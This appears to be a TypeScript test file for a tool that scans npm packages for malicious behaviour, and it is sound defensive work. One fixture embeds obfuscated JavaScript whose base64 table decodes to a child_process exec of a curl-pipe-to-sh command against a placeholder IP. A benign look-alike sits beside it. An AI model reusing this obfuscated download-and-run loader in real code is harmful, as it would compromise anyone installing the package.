/**
 * Behaviour the engine should see whatever the attack family: values through string tables and
 * lookups, download-then-run in every script language, decrypt-then-run whatever the key,
 * secrets sent by any channel, mass destruction of files a package does not own, persistence and
 * evasion. Each fixture is written the way attackers vary code (helpers, tables, second files,
 * other languages); each has a benign look-alike that must stay quiet.
 */
import { analyzeSource, threatsOf } from './helpers';

const risk = (files: Record<string, string>) => analyzeSource(files).risk_level;
const pkg = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'fixture', version: '1.0.0', main: 'index.js', ...extra });

describe('values through string tables', () => {
  it('a decoder indexed by number (string-array obfuscation) names the module and the command', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `var _t = ['ZXhlYw==', 'Y2hpbGRfcHJvY2Vzcw==', 'Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjIxL2wgfCBzaA=='];
function _d(i) { return Buffer.from(_t[i], 'base64').toString(); }
require(_d(1))[_d(0)](_d(2));`,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.capabilities.process.commands).toContain('curl');
  });
  it('a UTF-8 helper called with numbers (a pointer, an id) is not a decoder of hidden names', () => {
    expect(
      risk({
        'package.json': pkg(),
        'index.js': `function utf8(ptr) { let s = ''; for (let i = 0; i < 4; i++) s += String.fromCharCode(ptr + i); return s; }
module.exports = (vm) => vm.eval(utf8(65));`,
      }),
    ).toBe('clean');
  });
});
